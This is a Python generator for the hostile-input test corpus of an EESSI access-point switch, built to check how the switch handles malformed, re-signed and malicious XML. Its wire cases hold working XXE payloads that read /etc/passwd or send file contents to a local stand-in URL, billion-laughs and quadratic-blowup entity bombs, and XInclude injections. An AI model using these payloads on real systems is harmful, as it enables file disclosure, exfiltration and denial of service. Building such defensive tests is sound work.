#!/usr/bin/env python3
"""Generate the hostile-input corpus of eessi-switch (tests/hostile/).

Usage:   python3 tests/hostile/generate.py          (from anywhere; Python 3.11, stdlib only)
Output:  tests/hostile/wire/NNN-<slug>.toml (+ .xml body) and tests/hostile/http/NNN-<slug>.toml
         (+ .xml/.json body). The directories are wiped and rewritten; the output is
         deterministic (ids derive from the case slug, no clock, no randomness), so a
         re-run on an unchanged tree gives byte-identical files.
Runner:  tests/hostile.rs (`cargo test --test hostile -- --nocapture` prints the summary) sends
         every wire case over the real AMQP wire to one real BE switch and every HTTP case to
         its HTTP API, and checks the expected answer. Expectations come from the contract
         (../shared/spec/access-point.md, "Order of checks"), not from what the switch does; a
         case where the switch is known to break the contract carries `known_bug` and is
         reported without failing the suite (and reported again once it no longer reproduces).
Large bodies (10 MiB, many attributes...) are described by a [generate] table and built by
the runner; never commit them.

Each case is a TOML file (the body, when there is one, is the file named by `body`):

  wire cases (what a foreign access point, NL by default, puts on eessi.ap -> BE):
    description, category     what the case is about
    expect                    a contract error code, "receipt", "dead-letter" (nobody can be
                              answered: rejected to eessi.ap.BE.dead, which the switch collects
                              and lists at /api/v1/dead-letters) or "no-answer" (a forged
                              receipt/error: ignored, nothing is sent back)
    known_bug                 optional: a contract violation by the switch; reported, not failed
    body                      the body file, sent as is unless `sign` is given
    sign                      optional: key in fixtures/pki that signs the body at run time
                              (NL_SVB, NL_UWV, ROGUE_NL_SVB, AP_NL, BE_ONSS, ...)
    phase                     1 (default), 2 or 3: sent once every answer of the previous phase
                              is in (cases that refer to a case a phase-1 receipt case opened)
    parked                    with expect = "receipt": a New/Update whose predecessor is unknown,
                              parked by the receiver; it applies nothing (yet)
    duplicate                 optional: "same" (sent again identically once answered: the
                              answer must come back byte for byte) or "other-body" (the same
                              message_id again with another body: CONFLICT)
    headers_remove, properties_remove   AMQP headers / properties left out
    [envelope]                the values the AMQP headers are built from (normally the same as
                              inside the body): from, to, case_id, buc, sed, version,
                              document_id, document_version, action
    [headers_set]             header overrides (string values)
    [headers_int], [headers_bool]  headers sent with a non-string AMQP type
    [properties_set]          property overrides: message_id, type, content_type, app_id,
                              timestamp (decimal string)
    [generate]                built at run time instead of committed (large bodies):
                              fill (or fill_hex) + total (the whole body: `fill` repeated and
                              cut to `total` bytes), or
                              insert_before + prefix/unit/repeat/suffix (inserted before the
                              first occurrence of insert_before in the body file, before
                              signing; "{n}" in unit is the repetition index), and/or pad_to
                              (after signing, whole pad_units - default one space - then
                              spaces, so that the body is exactly pad_to bytes)
    [[edit]]                  byte edits after signing, in order: find -> with (count 1 by
                              default, 0 = all). "{{SIGNATURE}}" stands for the ds:Signature
                              element the signing produced; op = "prepend_hex" puts bytes first.

  http cases (a Belgian institution on the HTTP API):
    description, category, route, method (POST), content_type, body or [generate] fill/total,
    expect_status, expect_type (problem type URN), known_bug

A body file may hold {{FIXTURE:A003}}: the runner replaces it by the SED element of
fixtures/sed/4.2/A003.xml (XML declaration and leading comments removed, trimmed) before
anything else, as this script's fixture_sed() does.

Every id in the corpus is derived from the case slug, so cases never collide: the runner
starts one fresh switch whose store is empty.
"""

from __future__ import annotations

import base64
import hashlib
import json
import shutil
import sys
from pathlib import Path

HERE = Path(__file__).resolve().parent
ROOT = HERE.parent.parent
FIX = ROOT / "fixtures"

SBDH = "http://eessi.dgempl.ec.europa.eu/namespaces/sbdh"
DS = "http://www.w3.org/2000/09/xmldsig#"
NS42 = "http://ec.europa.eu/eessi/ns/4_2"
XSI = "http://www.w3.org/2001/XMLSchema-instance"

ALG_EXC = "http://www.w3.org/2001/10/xml-exc-c14n#"
ALG_RSA256 = "http://www.w3.org/2001/04/xmldsig-more#rsa-sha256"
ALG_ENV = "http://www.w3.org/2000/09/xmldsig#enveloped-signature"
ALG_SHA256 = "http://www.w3.org/2001/04/xmlenc#sha256"

MIB10 = 10 * 1024 * 1024

HEADERS = [
    ("eessi-from", "from"),
    ("eessi-to", "to"),
    ("eessi-case-id", "case_id"),
    ("eessi-buc", "buc"),
    ("eessi-sed", "sed"),
    ("eessi-sed-version", "version"),
    ("eessi-document-id", "document_id"),
    ("eessi-document-version", "document_version"),
    ("eessi-case-action", "action"),
]


def hid(slug: str, kind: str) -> str:
    """A 32-hex id derived from the case slug: deterministic and unique per case."""
    return hashlib.sha256(f"{kind}:{slug}".encode()).hexdigest()[:32]


def fixture_sed(name: str) -> str:
    """A fixture SED element as text, without XML declaration or leading comments."""
    text = (FIX / "sed" / "4.2" / f"{name}.xml").read_text(encoding="utf-8")
    if text.startswith("<?xml"):
        text = text[text.index("?>") + 2 :]
    text = text.strip()
    while text.startswith("<!--"):
        text = text[text.index("-->") + 3 :].strip()
    return text


def cert_b64(name: str) -> str:
    pem = (FIX / "pki" / f"{name}.crt.pem").read_text()
    lines = [l for l in pem.splitlines() if l and not l.startswith("-----")]
    return "".join(lines)


def env_defaults(slug: str, **over) -> dict:
    e = {
        "from": "NL:SVB",
        "to": "BE:ONSS",
        "case_id": hid(slug, "case"),
        "buc": "LA_BUC_02",
        "sed": "A003",
        "version": "4.2",
        "document_id": hid(slug, "doc"),
        "document_version": "1",
        "action": "Start",
        "sender_role": "CaseOwner",
        "receiver_role": "Counterparty",
        "related": None,
        "created": "2026-11-27T10:15:00Z",
        "header_version": "1.0",
        "standard": "urn:eu:europa:ec:dgempl:eessi:sed",
        "authority": "urn:eu:europa:ec:dgempl:eessi:ir",
        "type": None,  # DocumentIdentification/Type when it differs from sed
        "type_version": None,  # TypeVersion when it differs from version
    }
    e.update(over)
    return e


def render(e: dict, sed_xml: str, decl: str = '<?xml version="1.0" encoding="UTF-8"?>\n') -> str:
    """The unsigned SBDH envelope of the contract around `sed_xml`."""
    related = ""
    if e["related"]:
        related = (
            "\n      <sbdh:Scope><sbdh:Type>RelatedDocument</sbdh:Type>"
            f"<sbdh:InstanceIdentifier>{e['related']}</sbdh:InstanceIdentifier></sbdh:Scope>"
        )
    return (
        f"""{decl}<sbdh:StandardBusinessDocument xmlns:sbdh="{SBDH}">
  <sbdh:StandardBusinessDocumentHeader>
    <sbdh:HeaderVersion>{e['header_version']}</sbdh:HeaderVersion>
    <sbdh:Sender>
      <sbdh:Identifier Authority="{e['authority']}">{e['from']}</sbdh:Identifier>
      <sbdh:ContactInformation><sbdh:ContactTypeIdentifier>{e['sender_role']}</sbdh:ContactTypeIdentifier></sbdh:ContactInformation>
    </sbdh:Sender>
    <sbdh:Receiver>
      <sbdh:Identifier Authority="{e['authority']}">{e['to']}</sbdh:Identifier>
      <sbdh:ContactInformation><sbdh:ContactTypeIdentifier>{e['receiver_role']}</sbdh:ContactTypeIdentifier></sbdh:ContactInformation>
    </sbdh:Receiver>
    <sbdh:DocumentIdentification>
      <sbdh:Standard>{e['standard']}</sbdh:Standard>
      <sbdh:TypeVersion>{e['type_version'] or e['version']}</sbdh:TypeVersion>
      <sbdh:InstanceIdentifier>{e['document_id']}</sbdh:InstanceIdentifier>
      <sbdh:Type>{e['type'] or e['sed']}</sbdh:Type>
      <sbdh:CreationDateAndTime>{e['created']}</sbdh:CreationDateAndTime>
    </sbdh:DocumentIdentification>
    <sbdh:BusinessScope>
      <sbdh:Scope><sbdh:Type>CaseId</sbdh:Type><sbdh:InstanceIdentifier>{e['case_id']}</sbdh:InstanceIdentifier><sbdh:Identifier>{e['buc']}</sbdh:Identifier></sbdh:Scope>
      <sbdh:Scope><sbdh:Type>CaseAction</sbdh:Type><sbdh:InstanceIdentifier>{e['action']}</sbdh:InstanceIdentifier></sbdh:Scope>
      <sbdh:Scope><sbdh:Type>DocumentVersion</sbdh:Type><sbdh:InstanceIdentifier>{e['document_version']}</sbdh:InstanceIdentifier></sbdh:Scope>{related}
    </sbdh:BusinessScope>
  </sbdh:StandardBusinessDocumentHeader>
  {sed_xml}
</sbdh:StandardBusinessDocument>
"""
    )


# ---------------------------------------------------------------- TOML output


def tstr(v: str) -> str:
    # JSON string escapes are TOML basic-string escapes (no astral characters used here).
    return json.dumps(v, ensure_ascii=False)


def tval(v) -> str:
    if isinstance(v, bool):
        return "true" if v else "false"
    if isinstance(v, int):
        return str(v)
    if isinstance(v, str):
        return tstr(v)
    if isinstance(v, list):
        return "[" + ", ".join(tval(x) for x in v) + "]"
    raise TypeError(v)


def toml(top: dict, tables: dict, arrays: dict) -> str:
    out = []
    for k, v in top.items():
        if v is None or v == [] or v == {}:
            continue
        out.append(f"{k} = {tval(v)}")
    for name, t in tables.items():
        if not t:
            continue
        out.append("")
        out.append(f"[{name}]")
        for k, v in t.items():
            out.append(f"{tstr(k) if not k.replace('_', '').isalnum() else k} = {tval(v)}")
    for name, items in arrays.items():
        for t in items:
            out.append("")
            out.append(f"[[{name}]]")
            for k, v in t.items():
                out.append(f"{k} = {tval(v)}")
    return "\n".join(out) + "\n"


# ---------------------------------------------------------------- case registry

WIRE: list[dict] = []
HTTP: list[dict] = []


def wire(
    category: str,
    slug: str,
    expect: str,
    description: str,
    *,
    env: dict | None = None,
    sed_xml: str | None = None,
    body: str | bytes | None = None,
    sign: str | None = "NL_SVB",
    headers_set: dict | None = None,
    headers_remove: list | None = None,
    headers_int: dict | None = None,
    headers_bool: dict | None = None,
    properties_set: dict | None = None,
    properties_remove: list | None = None,
    edits: list | None = None,
    generate: dict | None = None,
    phase: int | None = None,
    duplicate: str | None = None,
    known_bug: str | None = None,
    no_body: bool = False,
    parked: bool = False,
):
    e = env if env is not None else env_defaults(slug)
    if body is None and not no_body:
        body = render(e, sed_xml if sed_xml is not None else fixture_sed(e["sed"]))
    WIRE.append(
        dict(
            category=category,
            slug=slug,
            expect=expect,
            description=description,
            env={h: str(e[k]) for h, k in HEADERS},
            body=body,
            sign=sign,
            headers_set=headers_set or {},
            headers_remove=headers_remove or [],
            headers_int=headers_int or {},
            headers_bool=headers_bool or {},
            properties_set=properties_set or {},
            properties_remove=properties_remove or [],
            edits=edits or [],
            generate=generate or {},
            phase=phase,
            duplicate=duplicate,
            known_bug=known_bug,
            parked=parked,
        )
    )


def http(category, slug, route, expect_status, expect_type, description, *, body=None,
         content_type="application/xml", generate=None, known_bug=None, ext="xml"):
    HTTP.append(
        dict(
            category=category,
            slug=slug,
            route=route,
            expect_status=expect_status,
            expect_type=expect_type,
            description=description,
            body=body,
            content_type=content_type,
            generate=generate or {},
            known_bug=known_bug,
            ext=ext,
        )
    )


def rep(find: str, with_: str, count: int = 1) -> dict:
    return {"find": find, "with": with_, "count": count}


A003 = fixture_sed("A003")
SIG_END = "</ds:Signature>"
ROOT_END = "</sbdh:StandardBusinessDocument>"


def a003_with(find: str, replace: str, count: int = 1) -> str:
    assert find in A003, find
    return A003.replace(find, replace, count)


# ================================================================ wire cases

# ---- accepted: what must still work (each one its own case) ----
wire("accepted", "baseline-valid-a003", "receipt",
     "a valid A003 from NL:SVB to BE:ONSS starting LA_BUC_02: the control case")
wire("accepted", "utf8-bom-valid", "receipt",
     "a UTF-8 byte order mark before a valid signed document: still one UTF-8 XML document",
     edits=[{"op": "prepend_hex", "hex": "efbbbf"}])
_e = env_defaults("default-namespace-envelope")
_b = render(_e, A003).replace("sbdh:", "").replace('xmlns:sbdh="', 'xmlns="')
wire("accepted", "default-namespace-envelope", "receipt",
     "the envelope in the default namespace instead of the sbdh: prefix (names, not prefixes, count)",
     env=_e, body=_b)
_e = env_defaults("other-sed-prefix")
wire("accepted", "other-sed-prefix", "receipt",
     "the SED elements under prefix x: instead of sed:", env=_e,
     sed_xml=A003.replace("sed:", "x:").replace("xmlns:sed=", "xmlns:x="))
wire("accepted", "crlf-line-ends", "receipt",
     "CRLF line ends throughout (XML normalises them before signing and checking)",
     env=env_defaults("crlf-line-ends"),
     body=render(env_defaults("crlf-line-ends"), A003).replace("\n", "\r\n"))
wire("accepted", "character-references", "receipt",
     "character references (&#x56; for V) in SED text: no entity, no DTD needed",
     sed_xml=a003_with("<sed:FamilyName>Verhoeven", "<sed:FamilyName>&#x56;erhoeven"))
wire("accepted", "cdata-in-text", "receipt",
     "a CDATA section as the text of FamilyName, signed as such",
     sed_xml=a003_with("<sed:FamilyName>Verhoeven", "<sed:FamilyName><![CDATA[Verhoeven]]>"))
wire("accepted", "comment-in-text-after-signing", "receipt",
     "a comment inserted inside FamilyName after signing: exclusive C14N without comments "
     "drops it, the digest still matches and the text value is unchanged (Verhoeven)",
     edits=[rep("Verhoe", "Verhoe<!-- injected -->")])
wire("accepted", "doctype-inside-comment", "receipt",
     "a DOCTYPE-looking text inside a comment is not a DOCTYPE declaration",
     env=env_defaults("doctype-inside-comment"),
     body=render(env_defaults("doctype-inside-comment"), A003).replace(
         "<sbdh:StandardBusinessDocument ",
         "<!-- <!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]> -->\n<sbdh:StandardBusinessDocument ", 1))
wire("accepted", "fake-signature-in-comment", "receipt",
     "a second, fake ds:Signature inside a comment besides the real one: comments are not elements",
     edits=[rep("<sbdh:StandardBusinessDocumentHeader>",
                "<!-- <ds:Signature xmlns:ds=\"http://www.w3.org/2000/09/xmldsig#\"/> --><sbdh:StandardBusinessDocumentHeader>")])
wire("accepted", "unused-namespace-added-after-signing", "receipt",
     "an unused namespace declaration added to the root after signing: exclusive C14N "
     "renders only visibly used namespaces, so the signed content is unchanged",
     edits=[rep(f'xmlns:sbdh="{SBDH}"', f'xmlns:sbdh="{SBDH}" xmlns:unused="urn:x"')])
wire("accepted", "attribute-quotes-changed-after-signing", "receipt",
     "Authority=\"...\" rewritten with single quotes after signing: same canonical form",
     edits=[rep('Authority="urn:eu:europa:ec:dgempl:eessi:ir"', "Authority='urn:eu:europa:ec:dgempl:eessi:ir'", 0)])
wire("accepted", "comment-in-signedinfo", "receipt",
     "a comment inside SignedInfo (after signing): SignedInfo is canonicalised without comments, "
     "so the profile and the signature value still hold",
     edits=[rep("<ds:SignedInfo>", "<ds:SignedInfo><!-- note -->")])
wire("accepted", "extra-amqp-header", "receipt",
     "an extra, unknown AMQP header (x-trace): the contract lists required headers only",
     headers_set={"x-trace": "abc"})
wire("accepted", "pi-inside-sed", "receipt",
     "a processing instruction inside the SED element, signed",
     sed_xml=a003_with("<sed:Decision>", "<?audit seen?><sed:Decision>"))
wire("accepted", "schema-location-hint-ignored", "receipt",
     "xsi:schemaLocation pointing at an unreachable URL: the receiver validates with its own "
     "schema and fetches nothing",
     sed_xml=a003_with('sedGVer="4"', f'xmlns:xsi="{XSI}" xsi:schemaLocation="{NS42} http://127.0.0.1:9/evil.xsd" sedGVer="4"'))

# ---- XXE, DTDs and entity expansion: any DOCTYPE is MALFORMED, nothing is read ----
def with_doctype(slug, doctype, sed_find=None, sed_repl=None, decl=True):
    e = env_defaults(slug)
    sed = A003 if sed_find is None else a003_with(sed_find, sed_repl)
    b = render(e, sed)
    head = '<?xml version="1.0" encoding="UTF-8"?>\n'
    assert b.startswith(head)
    return e, (head if decl else "") + doctype + "\n" + b[len(head):]

for slug, dt, f, r, d in [
    ("xxe-file-etc-passwd", '<!DOCTYPE sbdh:StandardBusinessDocument [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
     "<sed:FamilyName>Verhoeven", "<sed:FamilyName>&xxe;", "external entity SYSTEM file:///etc/passwd used in FamilyName"),
    ("xxe-http-url", '<!DOCTYPE sbdh:StandardBusinessDocument [<!ENTITY xxe SYSTEM "http://127.0.0.1:9/leak">]>',
     "<sed:FamilyName>Verhoeven", "<sed:FamilyName>&xxe;", "external entity on an http URL"),
    ("xxe-parameter-entity", '<!DOCTYPE sbdh:StandardBusinessDocument [<!ENTITY % p SYSTEM "http://127.0.0.1:9/evil.dtd"> %p;]>',
     None, None, "external parameter entity (out-of-band exfiltration pattern)"),
    ("xxe-parameter-entity-file", '<!DOCTYPE sbdh:StandardBusinessDocument [<!ENTITY % f SYSTEM "file:///etc/passwd"><!ENTITY % w "<!ENTITY leak SYSTEM \'http://127.0.0.1:9/?%f;\'>"> %w;]>',
     None, None, "parameter entities reading a file into a URL"),
    ("xxe-external-dtd-system", '<!DOCTYPE sbdh:StandardBusinessDocument SYSTEM "file:///etc/passwd">',
     None, None, "external DTD subset from file:///etc/passwd"),
    ("xxe-external-dtd-public", '<!DOCTYPE sbdh:StandardBusinessDocument PUBLIC "-//EVIL//DTD//EN" "http://127.0.0.1:9/evil.dtd">',
     None, None, "PUBLIC external DTD on an http URL"),
    ("doctype-empty", "<!DOCTYPE sbdh:StandardBusinessDocument>", None, None,
     "a bare DOCTYPE without any subset is still a DOCTYPE"),
    ("doctype-internal-harmless", '<!DOCTYPE sbdh:StandardBusinessDocument [<!ELEMENT x ANY>]>', None, None,
     "an internal subset declaring nothing dangerous"),
    ("doctype-attlist-default", '<!DOCTYPE sbdh:StandardBusinessDocument [<!ATTLIST sed:A003 injected CDATA "yes">]>', None, None,
     "an ATTLIST default that would inject an attribute into the SED"),
    ("entity-internal", '<!DOCTYPE sbdh:StandardBusinessDocument [<!ENTITY n "Verhoeven">]>',
     "<sed:FamilyName>Verhoeven", "<sed:FamilyName>&n;", "an internal general entity used in FamilyName"),
    ("entity-in-attribute", '<!DOCTYPE sbdh:StandardBusinessDocument [<!ENTITY t "registration">]>',
     'type="registration"', 'type="&t;"', "an internal entity used in an attribute value"),
    ("xxe-utf7-trick", '<!DOCTYPE sbdh:StandardBusinessDocument [<!ENTITY xxe SYSTEM "php://filter/read=convert.base64-encode/resource=/etc/passwd">]>',
     "<sed:FamilyName>Verhoeven", "<sed:FamilyName>&xxe;", "a scheme-wrapped external entity"),
    ("xxe-netdoc", '<!DOCTYPE sbdh:StandardBusinessDocument [<!ENTITY xxe SYSTEM "ftp://127.0.0.1:9/x">]>',
     "<sed:FamilyName>Verhoeven", "<sed:FamilyName>&xxe;", "an external entity on an ftp URL"),
]:
    e, b = with_doctype(slug, dt, f, r)
    wire("dtd-xxe", slug, "MALFORMED", d + " (sent unsigned: check 3 comes before the signature)",
         env=e, body=b, sign=None)

e, b = with_doctype("doctype-without-xml-declaration",
                    '<!DOCTYPE sbdh:StandardBusinessDocument [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
                    "<sed:FamilyName>Verhoeven", "<sed:FamilyName>&xxe;", decl=False)
wire("dtd-xxe", "doctype-without-xml-declaration", "MALFORMED",
     "external entity, no XML declaration before the DOCTYPE", env=e, body=b, sign=None)

laughs = ['<!ENTITY lol0 "lol">'] + [
    f'<!ENTITY lol{i} "{"".join(f"&lol{i-1};" for _ in range(10))}">' for i in range(1, 10)
]
e, b = with_doctype("billion-laughs", "<!DOCTYPE sbdh:StandardBusinessDocument [" + "".join(laughs) + "]>",
                    "<sed:FamilyName>Verhoeven", "<sed:FamilyName>&lol9;")
wire("dtd-xxe", "billion-laughs", "MALFORMED",
     "billion laughs: 10 levels of 10 references (10^9 expansions)", env=e, body=b, sign=None)
e, b = with_doctype("quadratic-blowup",
                    '<!DOCTYPE sbdh:StandardBusinessDocument [<!ENTITY a "' + "A" * 30000 + '">]>',
                    "<sed:FamilyName>Verhoeven", "<sed:FamilyName>" + "&a;" * 3000)
wire("dtd-xxe", "quadratic-blowup", "MALFORMED",
     "quadratic blow-up: one 30 kB entity referenced 3000 times (90 MB if expanded); refused "
     "because of the DOCTYPE", env=e, body=b, sign=None)
e = env_defaults("undefined-entity")
wire("dtd-xxe", "undefined-entity", "MALFORMED",
     "a reference to an entity that no DTD defines: not well-formed", env=e,
     body=render(e, a003_with("<sed:FamilyName>Verhoeven", "<sed:FamilyName>&xxe;")), sign=None)
e = env_defaults("doctype-after-root")
wire("dtd-xxe", "doctype-after-root", "MALFORMED",
     "a DOCTYPE after the root element", env=e,
     body=render(e, A003) + '<!DOCTYPE x [<!ENTITY y "z">]>\n', sign=None)
e = env_defaults("doctype-lower-case")
wire("dtd-xxe", "doctype-lower-case", "MALFORMED",
     "<!doctype ...> in lower case: not well-formed", env=e,
     body=render(e, A003).replace("<sbdh:StandardBusinessDocument ", "<!doctype x>\n<sbdh:StandardBusinessDocument ", 1),
     sign=None)
e = env_defaults("xinclude-element")
wire("dtd-xxe", "xinclude-element", "SCHEMA_INVALID",
     "an xi:include of file:///etc/passwd in the SED, signed: never processed, so it is just an "
     "element the schema does not allow",
     env=e, body=render(e, a003_with("<sed:Decision>",
                                     '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/><sed:Decision>')))
wire("dtd-xxe", "xslt-stylesheet-pi", "SIGNATURE_INVALID",
     "an xml-stylesheet processing instruction added before the root after signing: PIs outside "
     "the root are part of the canonical form, so the digest no longer matches",
     edits=[rep("<sbdh:StandardBusinessDocument ", '<?xml-stylesheet type="text/xsl" href="http://127.0.0.1:9/x.xsl"?>\n<sbdh:StandardBusinessDocument ')])

# ---- well-formedness ----
def raw_case(slug, body, description, expect="MALFORMED"):
    wire("well-formedness", slug, expect, description, env=env_defaults(slug), body=body, sign=None)

_valid = render(env_defaults("x"), A003)
raw_case("empty-body", "", "an empty body")
raw_case("whitespace-body", "   \n", "only whitespace")
raw_case("not-xml-json", '{"sed": "A003"}', "a JSON body")
raw_case("not-xml-text", "hello, Belgium", "plain text")
raw_case("unclosed-root", _valid.replace(ROOT_END, ""), "the root element is never closed")
raw_case("mismatched-tags", _valid.replace("</sed:FamilyName>", "</sed:Forename>", 1), "mismatched end tag")
raw_case("two-roots", _valid + _valid.split("\n", 1)[1], "two root elements")
raw_case("text-after-root", _valid + "trailing text", "text after the root element")
raw_case("undeclared-prefix", _valid.replace("<sed:Decision>", "<q:Decision>", 1).replace("</sed:Decision>", "</q:Decision>", 1),
         "an element with an undeclared namespace prefix")
raw_case("declaration-not-first", "\n" + _valid, "whitespace before the XML declaration")
raw_case("declaration-twice", _valid.replace("?>\n", '?>\n<?xml version="1.0"?>\n', 1), "the XML declaration twice")
raw_case("xml-pi-in-middle", _valid.replace("<sed:Decision>", '<?xml version="1.0"?><sed:Decision>', 1),
         "a processing instruction named xml inside the document")
raw_case("unterminated-comment", _valid.replace("<sed:Decision>", "<!-- never closed <sed:Decision>", 1), "an unterminated comment")
raw_case("double-hyphen-in-comment", _valid.replace("<sed:Decision>", "<!-- a -- b --><sed:Decision>", 1), "'--' inside a comment")
raw_case("unterminated-cdata", _valid.replace("<sed:FamilyName>Verhoeven", "<sed:FamilyName><![CDATA[Verhoeven", 1), "an unterminated CDATA section")
raw_case("cdata-outside-root", _valid + "<![CDATA[x]]>", "a CDATA section after the root")
raw_case("cdata-end-in-text", _valid.replace("<sed:FamilyName>Verhoeven", "<sed:FamilyName>Ver]]>hoeven", 1), "']]>' in text content")
raw_case("unquoted-attribute", _valid.replace('type="registration"', "type=registration", 1), "an unquoted attribute value")
raw_case("lt-in-attribute", _valid.replace('type="registration"', 'type="reg<istration"', 1), "'<' in an attribute value")
raw_case("bare-ampersand", _valid.replace("Fictief Transport B.V.", "Fictief & Transport", 1), "a bare '&' in text")
raw_case("duplicate-attribute", _valid.replace('sedGVer="4"', 'sedGVer="4" sedGVer="4"', 1), "the same attribute twice on one element")
raw_case("duplicate-namespaced-attribute", _valid.replace('sedGVer="4"', 'xmlns:a="urn:a" xmlns:b="urn:a" a:x="1" b:x="2" sedGVer="4"', 1),
         "two attributes with the same expanded name through two prefixes")
raw_case("nul-character", _valid.replace("Verhoeven", "Verho\x00even", 1), "a NUL character (valid UTF-8, not an XML character)")
raw_case("control-character", _valid.replace("Verhoeven", "Verho\x01even", 1), "a C0 control character")
raw_case("char-ref-nul", _valid.replace("Verhoeven", "Verho&#0;even", 1), "&#0; is not an XML character")
raw_case("char-ref-control", _valid.replace("Verhoeven", "Verho&#x1B;even", 1), "&#x1B; is not an XML 1.0 character")
raw_case("noncharacter-fffe", _valid.replace("Verhoeven", "Verho\ufffeeven", 1), "U+FFFE is not an XML character")
raw_case("root-only", '<?xml version="1.0" encoding="UTF-8"?>\n<sbdh:StandardBusinessDocument xmlns:sbdh="' + SBDH + '"/>',
         "an empty envelope root")
raw_case("comment-only", "<!-- nothing -->", "a comment and no element")
raw_case("pi-only", "<?x y?>", "a processing instruction and no element")
raw_case("xml-1-1", _valid.replace('version="1.0"', 'version="1.1"', 1).replace("Verhoeven", "Verho&#x1;even", 1),
         "an XML 1.1 declaration to smuggle &#x1; (not an XML 1.0 character)")
raw_case("binary-garbage", bytes(range(256)) * 4, "binary bytes")

# ---- CDATA / comment / PI games on the structure ----
e = env_defaults("sed-inside-cdata")
wire("cdata-comment-pi", "sed-inside-cdata", "MALFORMED",
     "the SED wrapped in a CDATA section: the root then holds the header and no SED element",
     env=e, body=render(e, "<![CDATA[" + A003 + "]]>"))
e = env_defaults("sed-inside-comment")
wire("cdata-comment-pi", "sed-inside-comment", "MALFORMED",
     "the SED commented out: the root holds the header and no SED", env=e,
     body=render(e, "<!--" + A003.replace("--", "- -") + "-->"))
e = env_defaults("second-sed-in-cdata")
wire("cdata-comment-pi", "second-sed-in-cdata", "receipt",
     "a second SED as CDATA text between the header and the SED: text, not an element; signed",
     env=e, body=render(e, "<![CDATA[<sed:A004/>]]>" + A003))
wire("cdata-comment-pi", "signature-commented-out", "SIGNATURE_INVALID",
     "the signature turned into a comment after signing: the document is unsigned",
     edits=[rep("{{SIGNATURE}}", "<!--{{SIGNATURE}}-->")])
wire("cdata-comment-pi", "signature-inside-cdata", "SIGNATURE_INVALID",
     "the signature moved into a CDATA section inside LocalCaseNumber text: unsigned",
     edits=[rep("{{SIGNATURE}}", ""), rep("<sed:CaseNumber>SVB-AL-2026-004711", "<sed:CaseNumber><![CDATA[{{SIGNATURE}}]]>SVB-AL-2026-004711")])
wire("cdata-comment-pi", "pi-before-root-after-signing", "SIGNATURE_INVALID",
     "a processing instruction added before the root after signing (exclusive C14N keeps PIs)",
     edits=[rep("<sbdh:StandardBusinessDocument ", "<?audit x?><sbdh:StandardBusinessDocument ")])
wire("cdata-comment-pi", "whitespace-added-after-signing", "SIGNATURE_INVALID",
     "whitespace added inside the SED after signing: text nodes are signed",
     edits=[rep("<sed:Decision>", "<sed:Decision>\n   ")])
e = env_defaults("comment-splits-sender")
wire("cdata-comment-pi", "comment-splits-sender", "receipt",
     "a comment splitting the Sender identifier (NL:<!---->SVB), signed: the identifier is "
     "NL:SVB both for the signature and for the reader",
     env=e, body=render(e, A003).replace(">NL:SVB<", ">NL:<!---->SVB<", 1))
e = env_defaults("comment-splits-receiver-after-signing")
wire("cdata-comment-pi", "comment-splits-receiver-after-signing", "receipt",
     "a comment splitting the Receiver identifier inserted after signing: same canonical form, "
     "same value BE:ONSS",
     env=e, edits=[rep(">BE:ONSS<", ">BE:<!---->ONSS<")])
e = env_defaults("cdata-in-sender")
wire("cdata-comment-pi", "cdata-changes-sender-text", "SIGNATURE_INVALID",
     "after signing, the Sender identifier becomes NL:<![CDATA[UWV]]>: the text changed",
     env=e, edits=[rep(">NL:SVB<", "><![CDATA[NL:UWV]]><")])

# ---- encodings ----
def enc_case(slug, body, description, expect="MALFORMED", sign=None, known_bug=None, edits=None):
    wire("encoding", slug, expect, description, env=env_defaults(slug), body=body, sign=sign,
         known_bug=known_bug, edits=edits)

_v = render(env_defaults("enc"), A003)
enc_case("invalid-utf8-ff", _v.encode().replace(b"Verhoeven", b"Verho\xffeven", 1), "byte 0xFF inside text")
enc_case("invalid-utf8-overlong", _v.encode().replace(b"Verhoeven", b"Verho\xc0\xafeven", 1), "an overlong encoding of '/'")
enc_case("invalid-utf8-surrogate", _v.encode().replace(b"Verhoeven", b"Verho\xed\xa0\x80even", 1), "a UTF-8 encoded surrogate")
enc_case("invalid-utf8-truncated", _v.encode()[:-3] + b"\xe2\x82", "a multi-byte sequence cut at the end")
enc_case("invalid-utf8-in-tag-name", _v.encode().replace(b"<sed:Decision>", b"<sed:Deci\xfesion>", 1), "an invalid byte in an element name")
enc_case("latin1-bytes-no-declaration", _v.replace("Verhoeven", "Verhoeven-\u00e9").encode("latin-1"), "ISO-8859-1 bytes (é = 0xE9) without declaration")
enc_case("utf16le-bom", b"\xff\xfe" + _v.replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16-le"), "UTF-16LE with BOM and a matching declaration")
enc_case("utf16be-bom", b"\xfe\xff" + _v.replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16-be"), "UTF-16BE with BOM")
enc_case("utf16le-no-bom", _v.replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16-le"),
         "UTF-16LE without BOM (every other byte NUL, which is valid UTF-8): not a UTF-8 XML document")
enc_case("utf16le-no-bom-doctype",
         _v.replace('encoding="UTF-8"', 'encoding="UTF-16"').replace("<sbdh:StandardBusinessDocument ", '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>\n<sbdh:StandardBusinessDocument ', 1).replace("Verhoeven", "&e;", 1).encode("utf-16-le"),
         "UTF-16LE without BOM carrying an XXE DOCTYPE: the UTF-8 precheck sees no DOCTYPE in these bytes, so "
         "only the parser's own DTD refusal stands between it and the entity")
enc_case("utf16le-no-bom-deep",
         _v.replace('encoding="UTF-8"', 'encoding="UTF-16"').replace("<sed:Decision>", "<a>" * 300 + "</a>" * 300 + "<sed:Decision>", 1).encode("utf-16-le"),
         "UTF-16LE without BOM nested 300 deep: the UTF-8 precheck cannot count this depth")
enc_case("utf32-bom", b"\xff\xfe\x00\x00" + _v.replace('encoding="UTF-8"', 'encoding="UTF-32"').encode("utf-32-le"), "UTF-32LE with BOM")
enc_case("double-utf8-bom", b"\xef\xbb\xbf\xef\xbb\xbf" + _v.encode(), "two UTF-8 BOMs: the second is a character before the root")
enc_case("utf16-bom-with-utf8-body", b"\xff\xfe" + _v.encode(), "a UTF-16 BOM in front of UTF-8 bytes")
